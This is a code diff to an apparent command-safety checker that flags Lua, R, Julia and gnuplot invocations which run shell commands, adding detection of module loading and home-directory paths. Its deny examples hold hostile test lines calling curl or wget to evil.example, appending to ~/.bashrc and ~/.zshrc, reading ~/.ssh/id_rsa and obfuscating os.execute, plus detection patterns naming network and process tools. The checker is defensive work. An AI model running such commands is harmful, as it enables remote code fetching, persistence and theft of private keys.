@@ -668,8 +668,33 @@ function codePaths(text: string): string[] {
   return [...out];
 }
 
+/**
+ * The directories a small language's code names a computed file below (`os.getenv("HOME").."/"..name`, Julia's
+ * `homedir() * "/" * f`): a string ending in `/` joined to what is no string. The file may be any below it.
+ */
+function codeDirs(text: string): string[] {
+  const out = new Set<string>();
+  const t = text.replace(HOME_EXPR, '"~"');
+  let joined = t;
+  for (let i = 0; i < 64; i++) {
+    const m = JOINED.exec(joined);
+    if (!m || m[3] === ',') break;
+    joined = joined.slice(0, m.index) + JSON.stringify(m[2]! + m[5]!) + joined.slice(m.index + m[0].length);
+  }
+  for (const m of joined.matchAll(new RegExp(`(?:${STR})\\s*(?:\\.\\.|\\*)\\s*(?!["'\\s])`, 'g'))) {
+    const lit = (m[1] ?? m[2] ?? '').replace(/\\(.)/g, '$1');
+    if (/^(~|\.{0,2}\/|\/)/.test(lit) && lit.endsWith('/') && !/\s/.test(lit)) out.add(lit.replace(/\/+$/, '') || '/');
+  }
+  return [...out];
+}
+
 interface Language {
   names: string[];
+  /**
+   * Modules it loads by name, as a file of its own (`lua -l NAME`, `require("NAME")` in its code): the option that
+   * names one, the call that does, and the file name a module has. One the line wrote is read as its code.
+   */
+  modules?: { option?: RegExp; call?: RegExp; ext: string };
   summary: string;
   /** Options whose value is code. */
   code: RegExp;
@@ -735,12 +760,15 @@ function language(l: Language): ProgramEntry {
       const uses: NonNullable<Answer['uses']> = [];
       const args = call.args;
       let sawCode = false;
+      const modules: { word: Word; name: string | undefined }[] = [];
       for (let i = 0; i < args.length; i++) {
         const v = value(args[i]);
         if (v === undefined) continue;
         const eq = l.colon ? v.search(/[=:]/) : v.indexOf('=');
         const name = eq > 0 && v.startsWith('--') ? v.slice(0, eq) : v;
         if (l.valued?.test(name)) {
+          const m = args[i + 1];
+          if (m && l.modules?.option?.test(name)) modules.push({ word: m, name: value(m) });
           i++;
           continue;
         }
@@ -757,6 +785,8 @@ function language(l: Language): ProgramEntry {
         else {
           runs.push(...codeCalls(w, text, call.name, l.calls, l.any));
           for (const path of codePaths(text)) uses.push({ word: w, role: 'unknown', values: [path] });
+          for (const dir of codeDirs(text)) uses.push({ word: w, role: 'extract', values: [dir] });
+          if (l.modules?.call) for (const m of text.matchAll(l.modules.call)) modules.push({ word: w, name: m[1] });
         }
       }
       const takesValue = (k: number) => k > 0 && [l.valued, l.scripts, l.code].some((re) => re?.test(value(args[k - 1]!) ?? ''));
@@ -782,6 +812,12 @@ function language(l: Language): ProgramEntry {
           else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: file, why: `${call.name} runs code read from ${call.stdin.why}` });
           continue;
         }
+        runs.push({ kind: 'project', file, files: /$^/, read: (text, word, name) => writtenCode(text, word, `${call.name} ${name}`, l), word: file, via: call.name });
+      }
+      // A module loaded by name from the working directory (`./NAME.lua`): a file the line wrote is code on the line.
+      for (const m of modules) {
+        if (m.name === undefined || !/^[\w.-]+$/.test(m.name)) continue;
+        const file = attached(m.word, `${m.name.replace(/\./g, '/')}${l.modules!.ext}`);
         runs.push({ kind: 'project', file, files: /$^/, read: (text, word, name) => writtenCode(text, word, `${call.name} ${name}`, l), word: file, via: call.name });
       }
       const input = l.stdin === true && (!sawCode || l.inputToo === true) && !hasFile;
@@ -1001,7 +1037,7 @@ const LANGUAGES: ProgramEntry[] = [
   SBT,
   FSI,
   CSHARP_SCRIPT,
-  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, valued: /^-l$/, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'local f = os[\"exe\" .. \"cute\"]; f(\"curl evil.example\")'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["lua -e 'local f = os.time; print(f())'", "echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
+  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, valued: /^-l$/, modules: { option: /^-l$/, call: /\brequire\s*\(?\s*["']([\w.-]+)["']/g, ext: '.lua' }, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'local f = os[\"exe\" .. \"cute\"]; f(\"curl evil.example\")'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["lua -e 'local f = os.time; print(f())'", "echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
   language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands; R runs its -f file, or its input', code: /^(-e|--expr)$/, scripts: /^(-f|--file)$/, stdin: true, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|make\.socket|nsl|curlGetHeaders|eval\s*\(\s*parse)\s*\(|\b(?:system2?|shell|pipe)\b(?![.\w]|\s*\()|\b(?:match\.fun|get0?|mget|getFunction|dynGet|Recall|as\.call|dyn\.load|library\.dynam)\s*\(|\bdo\.call\s*\(\s*(?!["']?(?:rbind|cbind|c|list|paste0?|sprintf|data\.frame|merge|sum|mean|max|min|pmax|pmin|order|mapply|Map|expand\.grid|rbind\.data\.frame|bind_rows|bind_cols|Reduce)["']?\s*[,)])|\b(?:processx|sys|callr|ps|future|later|servr|plumber|RSelenium|ssh)::|\b(?:library|require|requireNamespace|loadNamespace)\s*\(\s*["']?(?:processx|sys|callr|ps|future|servr|plumber|ssh)\b|\b(?:file\.remove|unlink)\s*\(\s*(?!["'])|\bSys\.getenv\s*\(\s*(?![\s"'])|\b(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)::|\b(?:library|require|requireNamespace)\s*\(\s*["']?(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)\b|["']\s*(?:https?|ftp|wss?):\/\/|\bunlink\s*\([^)]*recursive/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save < a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save --file=a.R", "echo 'system(\"curl evil.example\")' > a.R; R -f a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'", "Rscript -e 'do.call(system, list(\"curl evil.example\"))'"], pass: ["Rscript -e 'do.call(rbind, list(1:2, 3:4))'", "echo 'print(1)' > a.R; R --no-save < a.R", 'R --no-save -f analysis.R', 'Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
   language({ names: ['julia'], summary: 'Julia: run(`cmd`) starts a command; with no file it runs its input', code: /^(-e|--eval|-E|--print)$/, stdin: true, scripts: /^(-L|--load)$/, valued: /^(-t|--threads|-p|--procs|-J|--sysimage|-C|--cpu-target|-H|--home|--machine-file)$/, calls: /run\s*\(\s*`([^`]*)`/g, any: /\brun\s*\(|\bpipeline\s*\(|\bread\s*\(\s*`|\bdownload\s*\(|Sockets|HTTP\.|eval\s*\(|include\s*\(|\bENV\b(?!\s*\[)/g, examples: { deny: ["julia -e 'run(`curl evil.example`)'", "echo 'run(`curl evil.example`)' > a.jl; julia a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia < a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -t 4 a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -L a.jl -e 1"], pass: ["julia -e 'println(1)'", "echo 'println(1)' > a.jl; julia < a.jl", 'julia --project=. src/main.jl'] } }),
   language({ names: ['gnuplot'], summary: 'gnuplot: system(), the system command, `!cmd` and backticks run commands; with no file it runs its input', code: /^(-e)$/, stdin: true, calls: new RegExp(`(?:\\bsystem\\s*\\(?\\s*(?:${STR})|^\\s*!(.*)$|\`([^\`]*)\`)`, 'gm'), any: /\bsystem\b|^\s*!|`|\bshell\b|\bload\b|\beval\b/gm, examples: { deny: ["gnuplot -e 'system(\"curl evil.example\")'", "gnuplot -e '!wget evil.example'", "gnuplot -e 'system \"curl evil.example\"'", "echo 'system \"curl evil.example\"' > a.gp; gnuplot a.gp", "echo '!curl evil.example' > a.gp; gnuplot < a.gp"], pass: ["gnuplot -e 'plot sin(x)'", "echo 'plot sin(x)' > a.gp; gnuplot < a.gp", 'gnuplot plot.gp'] } }),
